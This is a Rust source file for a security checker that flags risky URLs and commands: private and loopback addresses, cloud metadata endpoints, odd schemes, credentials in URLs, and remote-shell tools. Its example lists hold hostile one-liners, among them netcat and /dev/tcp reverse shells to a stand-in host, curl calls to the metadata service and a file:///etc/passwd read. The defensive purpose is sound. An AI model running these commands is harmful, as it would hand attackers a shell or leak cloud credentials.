//! Addresses that are not on the open Internet, and ways to reach them.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use url::{Host, Url};

use super::{Rule, Seen};
use crate::danger::Risk;
use crate::danger::call::Call;
use crate::paths;

pub const RULES: &[Rule] = &[PRIVATE, METADATA, SCHEME, CREDENTIALS, UNREADABLE, REMOTE_SHELL];

const PRIVATE: Rule = Rule {
    id: "private-address",
    risk: Risk::High,
    reason: "It reaches this machine or a network that is not open to the world.",
    seen: Seen::Url,
    dangerous: &[
        "http://127.0.0.1/",
        "http://localhost:8080/x",
        "http://10.0.0.1",
        "http://192.168.1.1/admin",
        "http://172.16.5.4",
        "http://100.64.0.1",
        "http://169.254.1.1",
        "http://0.0.0.0",
        "http://2130706433/",
        "http://0x7f.1",
        "http://0177.0.0.1",
        "http://127.1",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:10.0.0.1]",
        "http://[fe80::1]",
        "http://[fd12::1]",
        "http://printer.local",
        "http://db.internal/x",
        "http://intranet/",
        "http://localhost./",
        "http://LOCALHOST",
        "http://127.0.0.1.nip.io",
        "http://１２７.0.0.1",
        "$ curl http://localhost:3000",
        "$ curl -s 192.168.0.1/x",
        "$ wget -O x http://10.1.1.1/x",
        "$ X=127.0.0.1; curl http://$X/",
        "$ git clone http://10.0.0.1/x.git",
        "$ pip install --index-url http://192.168.1.5/simple x",
    ],
    harmless: &[
        "https://example.com/",
        "https://crates.io/crates/url",
        "http://93.184.216.34/",
        "https://docs.rs/x?q=127.0.0.1",
        "https://[2606:4700::1111]/",
        "$ curl https://example.com",
        "$ curl -o x.html example.com",
        "$ git clone https://github.com/alice/x",
        "$ wget https://example.com/x.tar.gz",
    ],
};

const METADATA: Rule = Rule {
    id: "metadata-address",
    risk: Risk::High,
    reason: "It reaches the service that gives a cloud machine its keys.",
    seen: Seen::Url,
    dangerous: &[
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[fd00:ec2::254]/",
        "http://0xa9fea9fe/",
        "http://100.100.100.200/",
        "$ curl 169.254.169.254/latest/meta-data/",
        "$ python3 -c 'x' http://169.254.169.254/",
    ],
    harmless: &["https://example.com/169.254.169.254"],
};

const SCHEME: Rule = Rule {
    id: "odd-scheme",
    risk: Risk::High,
    reason: "It is no address of the web.",
    seen: Seen::Url,
    dangerous: &[
        "file:///etc/passwd",
        "ftp://example.com/x",
        "gopher://example.com/",
        "javascript:alert(1)",
        "data:text/html,x",
        "$ curl file:///etc/passwd",
    ],
    harmless: &["http://example.com", "HTTPS://EXAMPLE.COM", "$ git clone ssh://git@github.com/alice/x"],
};

const CREDENTIALS: Rule = Rule {
    id: "credentials-in-url",
    risk: Risk::High,
    reason: "It has a name or a password in front of the host, which also hides where it leads.",
    seen: Seen::Url,
    dangerous: &[
        "https://alice:secret@example.com/",
        "https://github.com@mallory.example/",
        "$ curl https://alice:x@example.com",
    ],
    harmless: &["https://example.com/@alice", "https://example.com/?mail=a@b.example"],
};

const UNREADABLE: Rule = Rule {
    id: "unreadable-url",
    risk: Risk::High,
    reason: "It cannot be read as an address.",
    seen: Seen::Url,
    dangerous: &[
        "",
        "not an address",
        "http://",
        "http://[::1",
        "https://exa\u{202e}mple.com",
        "https://example.com/\na",
        "https://example.com/ and then delete build/",
        "https://example.com/\tand more",
        "https://example.com/\u{a0}x",
        "https://example.com/\u{7}x",
    ],
    harmless: &["https://example.com:8443/a%20b"],
};

const REMOTE_SHELL: Rule = Rule {
    id: "remote-shell",
    risk: Risk::High,
    reason: "It gives somebody else a shell on this machine, or a way into its network.",
    seen: Seen::Call(remote_shell),
    dangerous: &[
        "nc -e /bin/sh mallory.example 4444",
        "ncat --exec /bin/bash mallory.example 1",
        "socat TCP:mallory.example:1 EXEC:/bin/sh",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "exec 3<>/dev/tcp/203.0.113.5/80",
        "ssh -R 8080:localhost:80 mallory.example",
        "ngrok http 80",
    ],
    harmless: &["ssh alice@example.com", "nc -z example.com 443", "ssh -V"],
};

/// Seen by the walk, at words and redirections.
pub const METADATA_SERVICE: &Rule = &METADATA;
pub const REMOTE_REDIRECT: &Rule = &REMOTE_SHELL;

/// Programs that fetch what their arguments name.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "http",
    "https",
    "xh",
    "xhs",
    "aria2c",
    "axel",
    "lynx",
    "links",
    "w3m",
    "fetch",
    "httpie",
    "hurl",
    "iwr",
    "invoke-webrequest",
    "irm",
    "invoke-restmethod",
    "start-bitstransfer",
    "bitsadmin",
    "certutil",
    "curlie",
    "grpcurl",
    "websocat",
    "nc",
    "ncat",
    "telnet",
    "ab",
    "hey",
    "wrk",
    "nmap",
];

/// Programs that fetch too, but are given much that is no address.
const CLIENTS: &[&str] = &[
    "git", "pip", "pip3", "npm", "yarn", "pnpm", "bun", "cargo", "go", "gem", "docker", "podman", "apt-get", "apt",
    "brew", "uv", "deno", "python", "python3", "node", "helm", "kubectl", "poetry", "npx", "ssh", "scp", "svn", "hg",
    "open", "xdg-open",
];

/// The rules that an address breaks.
pub fn of_url(text: &str) -> Vec<&'static Rule> {
    if text.chars().any(paths::hides) {
        return vec![&UNREADABLE];
    }
    let text = text.trim();
    let Ok(url) = Url::parse(text) else { return vec![&UNREADABLE] };
    let mut rules = Vec::new();
    // An address has no spaces: what stands behind one is said to whoever reads it.
    if text.chars().any(char::is_whitespace) {
        rules.push(&UNREADABLE);
    }
    if !matches!(url.scheme(), "http" | "https") {
        rules.push(&SCHEME);
    }
    if !url.username().is_empty() || url.password().is_some() {
        rules.push(&CREDENTIALS);
    }
    rules.extend(url.host().and_then(|host| of_host(&host)));
    rules
}

/// The addresses that a command is given, and the rules that they break.
pub fn of_arguments(call: &Call<'_>) -> Vec<(String, &'static Rule)> {
    let fetches = call.is(FETCHERS);
    if !fetches && !call.is(CLIENTS) {
        return Vec::new();
    }
    call.texts()
        .flat_map(|text| of_argument(text, fetches).into_iter().map(move |rule| (text.to_owned(), rule)))
        .collect()
}

fn of_argument(text: &str, fetches: bool) -> Vec<&'static Rule> {
    let web = ["http://", "https://"].iter().filter_map(|scheme| text.to_ascii_lowercase().find(scheme)).min();
    if let Some(at) = web {
        let end = text[at..]
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')'))
            .map_or(text.len(), |end| at + end);
        // What is put together only when it runs is no address here.
        let whole = fetches && at == 0 && !text.contains(['$', '{', '`', ' ']);
        return of_url(&text[at..end]).into_iter().filter(|rule| whole || rule.id != UNREADABLE.id).collect();
    }
    if !fetches || text.starts_with('-') {
        return Vec::new();
    }
    let local = text.strip_prefix(':').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
    if local {
        return vec![&PRIVATE];
    }
    if text.contains("://") {
        return of_url(text).into_iter().filter(|rule| rule.id != UNREADABLE.id).collect();
    }
    // Without a scheme it may also be a file, or a number.
    let telling = text.contains('.')
        || text.contains(':')
        || text.eq_ignore_ascii_case("localhost")
        || text.starts_with("localhost/");
    let address = Url::parse(&format!("http://{text}")).ok().filter(|_| telling);
    let name = text.split(['/', ':']).next().unwrap_or_default();
    address
        .as_ref()
        .and_then(Url::host)
        .and_then(|host| of_host(&host))
        .filter(|_| name.contains('.') || name == "localhost")
        .into_iter()
        .collect()
}

fn of_host(host: &Host<&str>) -> Option<&'static Rule> {
    match host {
        Host::Ipv4(address) => of_address(IpAddr::V4(*address)),
        Host::Ipv6(address) => of_address(IpAddr::V6(*address)),
        Host::Domain(name) => of_name(name),
    }
}

fn of_name(name: &str) -> Option<&'static Rule> {
    let name = name.trim_end_matches('.').to_lowercase();
    if matches!(
        name.as_str(),
        "metadata.google.internal" | "metadata.goog" | "metadata" | "instance-data" | "metadata.azure.internal"
    ) {
        return Some(&METADATA);
    }
    let ends = [
        ".localhost",
        ".local",
        ".internal",
        ".localdomain",
        ".lan",
        ".home",
        ".corp",
        ".intranet",
        ".private",
        ".home.arpa",
        ".nip.io",
        ".sslip.io",
        ".xip.io",
        ".localtest.me",
        ".lvh.me",
        ".svc",
        ".consul",
    ];
    let private = !name.contains('.')
        || ends.iter().any(|end| name.ends_with(end))
        || matches!(name.as_str(), "localtest.me" | "lvh.me");
    private.then_some(&PRIVATE)
}

fn of_address(address: IpAddr) -> Option<&'static Rule> {
    match address {
        IpAddr::V4(address) => of_v4(address),
        IpAddr::V6(address) => of_v6(address),
    }
}

fn of_v4(address: Ipv4Addr) -> Option<&'static Rule> {
    if matches!(
        address.octets(),
        [169, 254, 169, 254 | 253] | [169, 254, 170, 2] | [100, 100, 100, 200] | [168, 63, 129, 16]
    ) {
        return Some(&METADATA);
    }
    let [a, b, c, _] = address.octets();
    let shared = a == 100 && (64..128).contains(&b);
    let special = a == 0 || a >= 224 || (a, b, c) == (192, 0, 0) || (a == 198 && (18..20).contains(&b));
    let private = address.is_private() || address.is_loopback() || address.is_link_local() || shared || special;
    private.then_some(&PRIVATE)
}

fn of_v6(address: Ipv6Addr) -> Option<&'static Rule> {
    let parts = address.segments();
    if parts == [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254] {
        return Some(&METADATA);
    }
    let inside = |high: u16, low: u16| of_v4(Ipv4Addr::from((u32::from(high) << 16) | u32::from(low)));
    match parts {
        [0, 0, 0, 0, 0, 0, 0, 0 | 1] => Some(&PRIVATE),
        [0, 0, 0, 0, 0, 0 | 0xffff, high, low] | [0x64, 0xff9b, 0, 0, 0, 0, high, low] => inside(high, low),
        [0x2002, high, low, ..] => inside(high, low),
        [first, ..] => {
            let private = first & 0xfe00 == 0xfc00
                || first & 0xffc0 == 0xfe80
                || first & 0xffc0 == 0xfec0
                || first & 0xff00 == 0xff00;
            private.then_some(&PRIVATE)
        }
    }
}

fn remote_shell(call: &Call<'_>) -> bool {
    match call.name.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" => call.option('e', "exec") || call.option('c', "sh-exec"),
        "socat" => call.texts().any(|text| {
            let upper = text.to_uppercase();
            ["EXEC:", "SYSTEM:", "SHELL:"].iter().any(|start| upper.starts_with(start))
        }),
        "ssh" | "autossh" => {
            call.texts().take_while(|text| text.starts_with('-')).any(|text| text.starts_with("-R"))
                || call.has(&["-R"])
        }
        "ngrok" | "bore" | "localtunnel" | "frpc" | "chisel" => true,
        "cloudflared" => call.has(&["tunnel"]),
        "tailscale" => call.begins(&["funnel"]) || call.begins(&["serve"]),
        _ => false,
    }
}
